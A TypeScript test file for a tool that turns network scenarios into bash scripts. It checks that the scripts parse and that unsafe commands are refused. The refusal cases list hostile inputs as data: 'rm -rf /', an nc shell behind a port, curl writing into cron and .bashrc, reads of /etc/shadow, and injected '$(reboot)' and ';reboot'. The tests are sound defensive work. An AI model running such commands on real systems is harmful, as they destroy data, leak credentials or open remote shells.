// The script people take home: it is bash, it says what it does, and no scenario makes it do anything else.
import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { expand } from '../../scenario/expand.ts';
import { library, loadScenario } from '../../scenario/library/index.ts';
import type { Scenario, ScenarioMachine } from '../../scenario/schema.ts';
import { script } from './script.ts';

const PROBE = { in: 'a', run: 'ping -c 1 10.0.0.1' };

function scenario(machine: ScenarioMachine = {}, more: Partial<Scenario> = {}): Scenario {
  return { version: 1, title: 'one machine', machines: { a: machine }, probe: PROBE, ...more };
}

function textOf(input: Scenario, probe = input.probe): string {
  const written = script(input, probe);
  if (!written.ok) throw new Error(written.problem.what);
  return written.value;
}

/** Reads a script without running it: its complaint, empty if there is none. */
const complaint = (text: string) =>
  spawnSync('bash', ['-n'], { input: text, encoding: 'utf8' }).stderr.toString();

describe('the script of a scenario', () => {
  it.each(library.map(({ id }) => id))('of %s is sound bash', async (id) => {
    const loaded = await loadScenario(id);
    const expanded = loaded.ok ? await expand(loaded.value) : loaded;
    if (!expanded.ok) throw new Error(expanded.problem.what);
    const text = textOf(expanded.value.scenario);
    expect(complaint(text)).toBe('');
    expect(text).toContain('ip netns add');
  });

  it('sends the probe that was asked for', () => {
    expect(textOf(scenario(), { in: 'a', run: 'ping  -c 2 10.0.0.9' })).toContain(
      'probe() {\n  ip netns exec "$PREFIX"a ping -c 2 10.0.0.9\n}',
    );
  });

  it('keeps rules as they are, whatever is in their comments', () => {
    const rule = '-A INPUT -m comment --comment "$(reboot) `reboot` \' END" -j ACCEPT';
    const iptables = `*filter\n:INPUT ACCEPT [0:0]\n# END\n${rule}\nCOMMIT\n`;
    const text = textOf(scenario({ iptables }));
    expect(text).toContain(`iptables_restore a <<'END'\n${iptables}END\n`);
    expect(complaint(text)).toBe('');
  });

  it('writes a switch of a device with dots in its name as sysctl reads it, after the device is there', () => {
    const machine: ScenarioMachine = {
      sysctl: { 'net.ipv4.conf.eth0.1.rp_filter': '1', 'net.ipv4.conf.default.rp_filter': '2' },
      links: [{ kind: 'bridge', name: 'eth0.1' }],
    };
    const text = textOf(scenario(machine));
    const places = ['conf/default/rp_filter=2', 'link add name eth0.1', 'conf/eth0.1/rp_filter=1'].map(
      (part) => text.indexOf(part),
    );
    expect(places).toEqual([...places].sort((a, b) => a - b));
    expect(places).not.toContain(-1);
  });
});

describe('a script is refused', () => {
  const refused = (input: Scenario) => script(input, input.probe).ok === false;
  const machine: ScenarioMachine = {
    links: [{ kind: 'bridge', name: 'br0', addresses: ['10.0.0.1/24'] }],
  };
  const commands = (run: string) => scenario(machine, { commands: [{ in: 'a', run }] });
  const complaintAbout = (run: string) => {
    const written = script(commands(run), PROBE);
    return written.ok ? null : written.problem.what;
  };

  it.each([
    ['rm -rf /', 'a program that is no network tool'],
    ['ip netns exec hs-a sh', 'another namespace'],
    ['ip -batch /etc/passwd', 'options in front'],
    ['ip link set eth0 netns 1', 'a device that would leave'],
    ['iptables -A INPUT -M /sbin/poweroff -m mark', 'a program for modules'],
    ['iptables --modprobe=/sbin/poweroff -L', 'the same, spelled out'],
    ['iptables --mod /sbin/poweroff -L', 'the same, cut short'],
    ['ipset -file /etc/shadow save', 'a file'],
    ['sysctl -w kernel.core_pattern=|/tmp/x', 'a switch of the whole machine'],
    ['ip link;reboot', 'two commands'],
    ['echo 1 > /etc/passwd', 'a file that is no switch'],
    ['cat /proc/sys/kernel/core_pattern', 'another switch'],
    ['ip link | grep -f /etc/shadow', 'a file behind a pipe'],
    ['ip link | grep -e. /etc/shadow', 'the same, with the pattern in the option'],
    ['ip link | grep -eA /etc/shadow', 'the same, with a pattern that looks like an option'],
    ['conntrack -E', 'what never ends'],
    ['ip link | sh', 'a shell behind a pipe'],
    ['curl -s -o /etc/cron.d/x http://10.0.0.2', 'a file that a server fills'],
    ['curl -so/root/.bashrc http://10.0.0.2', 'the same, in one word'],
    ['curl --unix-socket /var/run/docker.sock http://x', 'another door'],
    ['nc -z -e /bin/sh 10.0.0.2 80', 'a program behind a port'],
    ['dig -f /etc/shadow @10.0.0.2 a', 'a file of questions'],
  ])('for the command %s: %s', (run) => {
    expect(complaintAbout(run)).toMatch(/is not for a script$/);
  });

  it.each([
    'ip route add 10.9.0.0/16 via 10.0.0.2',
    'route add -net 10.9.0.0/16 gw 10.0.0.2',
    'iptables -t nat -A PREROUTING -m statistic --mode nth --every 2 --packet 0 -j ACCEPT',
    'ipset create pods hash:ip',
    'sysctl -w net.ipv4.ip_forward=1',
    'echo 1 > /proc/sys/net/ipv4/ip_forward',
    'ip route | grep -v default | head -n 2',
    'ip addr | grep -A 2 -e lo',
    'sudo ip link set lo up',
    'conntrack -F',
    'ping -c 1 10.0.0.1',
    'curl -s -o /dev/null http://10.0.0.1',
    'dig @10.0.0.1 a.example +short',
  ])('but not for %s', (run) => {
    expect(complaintAbout(run)).toBe(null);
  });

  it.each([
    ['kernel.core_pattern', 'the whole machine’s'],
    ['net.ipv4.conf.../../../kernel/core_pattern.x', 'a way out of the folder'],
    ['net.ipv4.ip_forward=1 kernel.panic', 'two in one'],
  ])('for the switch %s: %s', (key) => {
    expect(refused(scenario({ sysctl: { [key]: '1' } }))).toBe(true);
  });

  it.each(['a b', 'a;b', '../a', '$(a)', '-a'])('for a machine called %s', (name) => {
    expect(refused(scenario({}, { machines: { [name]: {}, a: {} } }))).toBe(true);
  });

  it('for words that are no route, so that none is taken for a command of its own', () => {
    expect(refused(scenario({ routes: 'default dev lo\\\nnetns exec hs-a reboot' }))).toBe(true);
  });

  it('for a probe that is none', () => {
    const asked = script(scenario(), { in: 'a', run: 'reboot' });
    expect(asked.ok).toBe(false);
  });
});
